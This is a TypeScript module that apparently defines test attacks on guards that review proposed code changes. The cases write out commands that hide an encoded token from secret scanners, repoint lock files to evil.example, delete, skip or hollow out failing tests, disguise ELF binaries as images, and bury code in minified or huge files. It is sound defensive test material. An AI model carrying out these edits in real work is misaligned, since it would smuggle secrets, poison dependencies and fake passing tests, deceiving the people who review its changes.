/**
 * Changes with contents that nobody asked for: secrets, programs, bulk, and tests that no longer
 * test.
 */
import type { Family } from "./attack.ts";
import { createProposalAttacks, type Handed } from "./proposed.ts";

/** Joined at run time, so that no secret scanner reports this file. */
const TOKEN = ["ghp", "R4nd0mLookingT0kenWith36Characters9z"].join("_");
const base64 = Buffer.from(TOKEN).toString("base64");
const hex = Buffer.from(TOKEN).toString("hex");
const urlSafe = Buffer.from(`??>>${TOKEN}`).toString("base64url");
const colons = hex.replace(/..(?=.)/g, "$&:");
const half = TOKEN.slice(0, 15);
const rest = TOKEN.slice(15);
const secrets = { guard: "secrets" };
const tests = { guard: "tests" };
const writes = (text: string) => `echo '${text}' > src/units.js`;

/** Edits of lock files, as sed expressions. */
const LOCKED: Handed[] = [
  [
    "P80",
    "points a locked package at another host",
    "package-lock.json",
    "s#registry.npmjs.org#evil.example#",
  ],
  [
    "P81",
    "points a locked package at a different one",
    "package-lock.json",
    "s#left-pad/-/left-pad#evil-p81/-/evil-p81#",
  ],
  ["P82", "removes a locked hash", "package-lock.json", 's#"sha512-left"#""#'],
  [
    "P83",
    "makes a locked package run a script",
    "package-lock.json",
    's#"integrity"#"hasInstallScript":true,"integrity"#',
  ],
  ["P84", "locks a package that nobody requires", "go.sum", "$ a example.com/evil v1.0.0 h1:p84="],
  [
    "P85",
    "loads a crate from a repository",
    "Cargo.lock",
    "s#sparse+https://index.crates.io/#git+https://evil.example/p85\\#1#",
  ],
].map(([id, title, path, edit]) => ({
  ...{ id: id!, title: title!, guard: "lock-files" },
  ...{ does: `sed -i '${edit}' ${path}`, canary: `+++ b/${path}` },
}));

const HANDED: Handed[] = [
  {
    ...{ id: "P20", title: "writes a token into a file", ...secrets },
    ...{ does: writes(`export const t = "${TOKEN}";`), canary: TOKEN },
  },
  {
    ...{ id: "P21", title: "writes it in base64", ...secrets },
    ...{ does: writes(`export const t = "${base64}";`), canary: base64 },
  },
  {
    ...{ id: "P22", title: "writes it in hexadecimal", ...secrets },
    ...{ does: writes(`export const t = "${hex}";`), canary: hex },
  },
  {
    ...{
      id: "P23",
      title: "writes it in the base64 of URLs, after other characters",
      ...secrets,
    },
    ...{ does: writes(`export const t = "${urlSafe}";`), canary: urlSafe },
  },
  {
    ...{ id: "P24", title: "writes it in hexadecimal with colons", ...secrets },
    ...{ does: writes(`export const t = "${colons}";`), canary: colons },
  },
  {
    ...{ id: "P25", title: "writes it with invisible characters in between", ...secrets },
    ...{ does: `printf '%s\\342\\200\\213%s\\n' '${half}' '${rest}' > src/units.js`, canary: rest },
  },
  {
    ...{ id: "P26", title: "names a file after it", ...secrets },
    ...{ does: `echo 1 > 'src/${TOKEN}.js'`, canary: TOKEN },
  },
  {
    ...{ id: "P27", title: "deletes the test that fails", ...tests },
    ...{ does: "rm test/length.test.js", canary: "D\ttest/length.test.js" },
  },
  {
    ...{ id: "P28", title: "skips the test that fails", ...tests },
    ...{ does: "sed -i 's/^it(/it.skip(/' test/length.test.js", canary: "+it.skip(" },
  },
  {
    ...{ id: "P29", title: "empties the test that fails", ...tests },
    ...{ does: "sed -i '/expect/d' test/length.test.js", canary: "-  expect(" },
  },
  {
    ...{ id: "P30", title: "makes its test assert what is always true", ...tests },
    ...{
      does: "sed -i 's/expect(metre()).toBe(1)/expect(true).toBe(true)/' test/length.test.js",
      canary: "+  expect(true)",
    },
  },
  {
    ...{ id: "P60", title: "skips a whole module of Python's tests", ...tests },
    ...{
      does:
        "sed -i '1i import pytest\\npytest.skip(\"later\", allow_module_level=True)' " +
        "test/test_length.py",
      canary: "+pytest.skip(",
    },
  },
  {
    ...{ id: "P61", title: "ends the test run before it fails", ...tests },
    ...{ does: "sed -i '1i process.exit(0);' test/length.test.js", canary: "+process.exit(0)" },
  },
  {
    ...{ id: "P62", title: "replaces Go's tests with a main function", ...tests },
    ...{
      does: `echo 'func TestMain(m *testing.M) {}' >> length_test.go`,
      canary: "+func TestMain",
    },
  },
  {
    ...{ id: "P63", title: "makes a Rust test panic instead of pass", ...tests },
    ...{
      does: "sed -i 's/#\\[test\\]/#[test] #[should_panic]/' src/lib.rs",
      canary: "+#[test] #[should_panic]",
    },
  },
  {
    ...{ id: "P64", title: "narrows the test script", ...tests },
    ...{ does: "sed -i 's/vitest run/vitest run src/' package.json", canary: "vitest run src" },
  },
  {
    ...{ id: "P65", title: "narrows what the runner collects", ...tests },
    ...{
      does: "echo 'export default { test: { include: [] } };' > vitest.config.ts",
      canary: "include: []",
    },
  },
  {
    ...{ id: "P66", title: "narrows where pytest looks", ...tests },
    ...{ does: "printf '[pytest]\\ntestpaths = docs\\n' > pytest.ini", canary: "testpaths = docs" },
  },
  {
    ...{ id: "P67", title: "puts the test that fails into a comment", ...tests },
    ...{
      does: "sed -i '1i /*' test/length.test.js; echo '*/' >> test/length.test.js",
      canary: "+/*",
    },
  },
  {
    ...{ id: "P31", title: "commits a program", guard: "binaries" },
    ...{ does: "printf '\\177ELF\\2\\1\\1\\0P31' > tool", canary: "P31" },
  },
  {
    ...{ id: "P32", title: "commits a program as a picture that the brief asks for" },
    ...{ guard: "binaries", does: "printf '\\177ELF\\2\\1\\1\\0P32' > logo.png", canary: "P32" },
    brief: { paths: ["logo.png"] },
  },
  {
    ...{ id: "P33", title: "commits an archive", guard: "binaries" },
    ...{ does: "printf 'PK\\3\\4\\24\\0P33' > data.bin", canary: "P33" },
  },
  {
    ...{ id: "P34", title: "vendors a changed dependency", guard: "generated" },
    ...{
      does: "mkdir -p node_modules/left-pad; echo evil > node_modules/left-pad/index.js",
      canary: "node_modules/left-pad",
    },
  },
  {
    ...{ id: "P35", title: "hides code in a minified line", guard: "generated" },
    ...{
      does: "mkdir -p src; (printf 'var a=1;%.0s' {1..2000}; echo 'evil()') > src/p35.js",
      canary: "evil()",
    },
  },
  {
    ...{ id: "P36", title: "buries the change in a huge file", guard: "size" },
    ...{
      does: "yes 'export const evil = 1;' | head -c 1200000 > src/units.js",
      canary: "const evil",
    },
  },
  {
    ...{ id: "P37", title: "buries the change in hundreds of files", guard: "size" },
    ...{
      does: "for n in {1..310}; do mkdir -p d$((n % 7)); echo $n > d$((n % 7))/f$n.js; done",
      canary: "f310.js",
    },
  },
  {
    ...{
      id: "P68",
      title: "makes guards walk a path of the maximum depth",
      guard: "size",
    },
    ...{
      does: "deep=$(printf 'd/%.0s' {1..60}); mkdir -p $deep; echo p68 > ${deep}p68.js",
      canary: "d/p68.js",
    },
  },
];

export const contents: Family = {
  name: "By the contents of a change",
  open: (stack) => createProposalAttacks([...HANDED, ...LOCKED], stack),
};
